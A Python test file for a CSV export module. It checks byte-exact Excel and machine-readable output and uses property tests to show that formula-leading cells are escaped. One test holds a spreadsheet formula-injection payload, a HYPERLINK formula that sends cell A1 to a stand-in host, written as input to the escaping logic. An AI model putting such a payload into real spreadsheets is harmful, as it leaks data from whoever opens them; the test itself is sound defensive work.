import csv
import re
import unicodedata
from datetime import date
from io import StringIO

from hypothesis import given
from hypothesis import strategies as st

from exports.delimited import render, render_for_machines
from exports.document import Cell, Column, Table
from exports.safe_text import clean

ANY_TEXT = st.text(st.characters(exclude_categories=()))
DANGEROUS_TEXT = st.builds(lambda start, text: start + text, st.sampled_from(["=", "'=", " +", "''@", "\n-"]), ANY_TEXT)


def table(*rows: tuple[Cell, ...], headings: tuple[str, ...] = ("Hva", "Når")) -> Table:
    columns = tuple(Column(heading=heading) for heading in headings)
    return Table(name="tiltak", title="Tiltak", columns=columns, rows=rows)


def read(content: bytes, *, encoding: str, delimiter: str) -> list[list[str]]:
    return list(csv.reader(StringIO(content.decode(encoding), newline=""), delimiter=delimiter, strict=True))


def test_render_for_norwegian_excel_byte_by_byte() -> None:
    content = render(table(("Følg opp", date(2027, 1, 15)), (None, 2.5), (-3, "b;c")))

    assert content == (
        b'\xef\xbb\xbf"Hva";"N\xc3\xa5r"\r\n"F\xc3\xb8lg opp";"2027-01-15"\r\n"";"2,5"\r\n"-3";"b;c"\r\n'
    )


def test_render_for_machines_byte_by_byte() -> None:
    content = render_for_machines(table(("Følg opp", date(2027, 1, 15)), (None, 2.5), (-3, 'b,"c"')))

    assert content == b'Hva,N\xc3\xa5r\r\nF\xc3\xb8lg opp,2027-01-15\r\n,2.5\r\n-3,"b,""c"""\r\n'


def test_render_guards_cells_and_headings() -> None:
    rows = read(
        render(table(('=HYPERLINK("http://e/"&A1)', "\t\uff1d1"), headings=("@Hva", "Når"))),
        encoding="utf-8-sig",
        delimiter=";",
    )

    assert rows == [["'@Hva", "Når"], ['\'=HYPERLINK("http://e/"&A1)', "' \uff1d1"]]


def test_render_for_machines_adds_no_apostrophes() -> None:
    rows = read(render_for_machines(table(("=1+1", "-1"))), encoding="utf-8", delimiter=",")

    assert rows[1] == ["=1+1", "-1"]


def test_render_table_without_rows() -> None:
    assert read(render(table()), encoding="utf-8-sig", delimiter=";") == [["Hva", "Når"]]


@given(ANY_TEXT | DANGEROUS_TEXT)
def test_render_any_text_round_trips_and_starts_no_formula(text: str) -> None:
    rows = read(render(table((text, "slutt"))), encoding="utf-8-sig", delimiter=";")
    written = rows[1][0]

    assert not re.match(r"\s*[=+\-@|]", written)
    assert clean(text) in {written, written.removeprefix("'")}
    assert rows[1][1] == "slutt"
    assert unicodedata.is_normalized("NFC", written)


@given(ANY_TEXT | DANGEROUS_TEXT)
def test_render_for_machines_any_text_round_trips(text: str) -> None:
    rows = read(render_for_machines(table((text, "slutt"))), encoding="utf-8", delimiter=",")

    assert rows == [["Hva", "Når"], [clean(text), "slutt"]]
